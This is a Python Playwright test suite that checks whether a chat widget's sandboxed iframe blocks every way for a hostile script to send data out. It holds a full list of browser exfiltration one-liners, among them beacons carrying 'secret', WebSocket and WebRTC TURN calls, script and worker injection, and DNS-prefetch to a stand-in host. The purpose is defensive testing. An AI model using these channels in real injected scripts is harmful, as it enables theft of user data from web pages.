"""P7: suppose that a script of somebody else runs inside the frame. Every way out, one by one: nothing may arrive.

The control takes the fields of the chat's answer away, and its sandbox, and each of the same ways arrives: that is what the
fields hold, and it says how long to wait before silence means something.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from playwright.sync_api import Frame, Page, Route

from tests.web.widget.conftest import PARTITIONED, Shop, chat, without
from tests.world.site import Ear, ear

PEER = (
    "const c = new RTCPeerConnection({{ iceServers: [{server}] }}); c.createDataChannel('x');"
    "c.createOffer().then((offer) => c.setLocalDescription(offer)); window.kept = [...(window.kept ?? []), c];"
)
# What runs in the frame; U is an address at which somebody listens, H its host and port.
CHANNELS = {
    "fetch": "fetch(U, { mode: 'no-cors' }).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', U); x.send()",
    "beacon": "navigator.sendBeacon(U, 'secret')",
    "websocket": "new WebSocket(U.replace('http', 'ws'))",
    "eventsource": "new EventSource(U)",
    "image": "window.image = new Image(); window.image.src = U",
    "stylesheet": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = U; document.head.append(l)",
    "css": "const s = new CSSStyleSheet(); s.replaceSync(`#panel{background:url(${U})}`); document.adoptedStyleSheets = [s];"
    "document.getElementById('panel').hidden = false",
    "font": "const f = new FontFace('x', `url(${U})`); document.fonts.add(f); f.load().catch(() => 0)",
    "frame": "const i = document.createElement('iframe'); i.src = U; document.body.append(i)",
    "media": "window.audio = new Audio(U); window.audio.load()",
    "script": "const s = document.createElement('script'); s.src = U; document.head.append(s)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${U}', { mode: 'no-cors' })`])))",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = U; document.head.append(l)",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = U; document.body.append(a); a.click()",
    "webrtc": PEER.format(server="{ urls: `stun:${H}` }"),
    "webtransport": "window.transport = new WebTransport(`https://${H}/`); window.transport.ready.catch(() => 0)",
    "turn": PEER.format(server="{ urls: `turn:${H}?transport=tcp`, username: 'secret', credential: 'x' }"),
}
LEAVING = {
    "form": "const f = document.createElement('form'); f.action = U; document.body.append(f); f.submit()",
    "itself": "location = U",
    "top": "top.location = U",
    "popup": "window.open(U)",
}


def fire(frame: Frame, channel: str, to: Ear) -> None:
    """Tries one way out. That it throws is an answer too."""
    script = f"([U, H]) => {{ try {{ {channel} }} catch {{}} }}"
    frame.evaluate(script, [f"http://{to.host}:{to.port}/", f"{to.host}:{to.port}"])


@pytest.fixture(scope="module")
def ears() -> Iterator[dict[str, Ear]]:
    with ExitStack() as stack:
        yield {name: stack.enter_context(ear()) for name in CHANNELS | LEAVING}


Alter = Callable[[Route], None]
EVERY_FIELD = ("content-security-policy", "connection-allowlist", "permissions-policy", "integrity-policy",
               "cross-origin-embedder-policy")  # fmt: skip


def tried(shop: Shop, ears: dict[str, Ear], tag: str, alter: Alter | None) -> list[Page]:
    """Every way out of a chat that is in the page as *tag*."""
    for one in ears.values():
        one.forget()
    page = shop.page(tag, alter=alter)
    frame = chat(page, shop)
    for name, channel in CHANNELS.items():
        fire(frame, channel, ears[name])
    pages = [page]
    for name, channel in LEAVING.items():
        pages.append(shop.page(tag, alter=alter))
        fire(chat(pages[-1], shop), channel, ears[name])
    return pages


def test_p7_nothing_leaves_the_frame_in_any_way(shop: Shop, ears: dict[str, Ear]) -> None:
    unguarded = shop.frame_tag.replace("sandbox=", "data-was=")
    began = time.monotonic()
    pages = tried(shop, ears, unguarded, without(*EVERY_FIELD))
    silent = []
    for name, one in ears.items():
        while not one.hears(0) and time.monotonic() < began + 60:
            pages[0].wait_for_timeout(100)  # browser and playwright go on meanwhile
        if not one.hears(0):
            silent.append(name)
    assert silent == []  # the control: every one of them arrives where nothing holds it
    took = time.monotonic() - began
    shop.close()
    pages = tried(shop, ears, shop.frame_tag, None)
    pages[0].wait_for_timeout(min(took, 5) * 1_000)
    assert {name: one.heard for name, one in ears.items() if one.heard} == {}


# Hints that a browser takes only in a profile that lasts, and what would act for the frame when it is gone.
HINTS = """([U, host, worker]) => {
  for (const [rel, href] of [["preconnect", U], ["dns-prefetch", `//${host}/`]]) {
    const link = document.createElement("link");
    Object.assign(link, { rel, href });
    document.head.append(link);
  }
  try {
    return navigator.serviceWorker.register(worker, { type: "module" }).then(() => "registered", (error) => error.name);
  } catch (error) {
    return error.name;
  }
}"""


def hinted(
    shop: Shop, folder: Path, tag: str, to: Ear, alter: Alter | None, wait: float
) -> tuple[str, bool, bool, float]:
    """What became of the worker, whether somebody was connected to, whether a name was looked up, and how long it took."""
    log, host = folder / "net.json", "secret.exit.example"
    context = shop.browser.browser_type.launch_persistent_context(
        folder, executable_path="/usr/bin/chromium", ignore_https_errors=True,
        args=["--no-sandbox", PARTITIONED, "--ignore-certificate-errors", f"--log-net-log={log}"],
    )  # fmt: skip
    page = context.new_page()
    if alter:
        page.route(re.compile(r"/widget\?"), alter)
    page.goto(shop.site.put("/hints", f"<!doctype html><title>Shop</title><body>{tag}"))
    frame = chat(page, shop)
    to.forget()
    began = time.monotonic()
    address = f"http://{to.host}:{to.port}/"
    worker = frame.evaluate(HINTS, [address, host, "/demo/cards.js"])
    while not to.hears(0) and time.monotonic() < began + wait:
        page.wait_for_timeout(100)
    took = time.monotonic() - began
    page.wait_for_timeout(500)
    context.close()  # then its record of the network is whole
    return worker, to.hears(0), host in log.read_text(), took


def test_p7_no_hint_leaves_the_frame_and_no_worker_stays_behind_it(shop: Shop, tmp_path: Path) -> None:
    with ear() as listening:
        unguarded = shop.frame_tag.replace("sandbox=", "data-was=")
        *control, took = hinted(shop, tmp_path / "control", unguarded, listening, without(*EVERY_FIELD), 30)
        assert control == ["registered", True, True]
        *held, _ = hinted(shop, tmp_path / "held", shop.frame_tag, listening, None, max(2 * took, 2))
    assert held == ["TypeError", False, False]
